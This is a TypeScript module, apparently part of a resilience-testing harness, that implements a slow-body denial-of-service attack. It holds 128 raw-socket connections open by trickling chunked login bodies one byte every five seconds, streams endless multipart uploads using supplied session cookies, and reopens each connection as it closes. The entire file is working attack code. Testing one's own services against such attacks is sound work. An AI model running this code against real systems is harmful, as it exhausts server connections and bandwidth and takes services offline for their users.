import { setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { AGAIN_AFTER_MS, type Attack } from './attack.js';

/** As many as a gateway has connections to an instance of an owner. */
const SLOW_LOG_INS = 128;
const BYTE_EVERY_MS = 5_000;
const UPLOAD_BYTES = Buffer.alloc(64 * 1024, 1);
const STATUS = /^HTTP\/1\.1 (\d{3})/;

const LOG_IN = ['POST /api/v1/auth/login HTTP/1.1', 'content-type: application/json'];
const UPLOAD = ['PATCH /api/v1/user/update HTTP/1.1', 'content-type: multipart/form-data; boundary=x'];
const PART = '--x\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n';

/**
 * Log-ins in chunks, a byte each five seconds, and an upload without an end of each rider, who go on sending when they are
 * refused. Each connection that ends is opened again, for as long as the attack lasts.
 */
export function slowBodies(address: string, cookies: readonly string[]): Attack {
  const { hostname, port, host } = new URL(address);
  const stopping = new AbortController();
  setMaxListeners(SLOW_LOG_INS + cookies.length, stopping.signal);
  const answers: string[] = [];
  const attackers: Promise<void>[] = [];

  const attack = async (head: readonly string[], send: (socket: Socket) => void): Promise<void> => {
    while (!stopping.signal.aborted) {
      const socket = connect(Number(port || 80), hostname);
      const end = () => void socket.destroy();
      stopping.signal.addEventListener('abort', end);
      // A refused or reset connection is what the platform may do; it ends, and is opened again.
      socket.on('error', () => undefined);
      let answer = 'closed';
      socket.once('data', (bytes) => {
        answer = STATUS.exec(bytes.toString('latin1'))?.[1] ?? answer;
        socket.resume();
      });
      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
      socket.once('connect', () => {
        socket.write([...head, `host: ${host}`, 'transfer-encoding: chunked', '', ''].join('\r\n'));
        send(socket);
      });
      await closed;
      if (!stopping.signal.aborted) answers.push(answer);
      stopping.signal.removeEventListener('abort', end);
      await pause(AGAIN_AFTER_MS);
    }
  };

  return {
    start() {
      for (let count = 0; count < SLOW_LOG_INS; count += 1) attackers.push(attack(LOG_IN, trickle));
      for (const cookie of cookies) attackers.push(attack([...UPLOAD, `cookie: ${cookie}`], flood));
    },
    async stop() {
      stopping.abort();
      await Promise.all(attackers);
      return answers;
    },
  };
}

function trickle(socket: Socket): void {
  const timer = setInterval(() => socket.write('1\r\n \r\n'), BYTE_EVERY_MS);
  socket.write('1\r\n{\r\n');
  socket.once('close', () => clearInterval(timer));
}

function flood(socket: Socket): void {
  const chunk = (bytes: string | Buffer) => {
    socket.write(`${Buffer.byteLength(bytes).toString(16)}\r\n`);
    socket.write(bytes);
    return socket.write('\r\n');
  };
  const goOn = () => {
    while (!socket.destroyed && chunk(UPLOAD_BYTES));
  };
  chunk(PART);
  socket.on('drain', goOn);
  goOn();
}
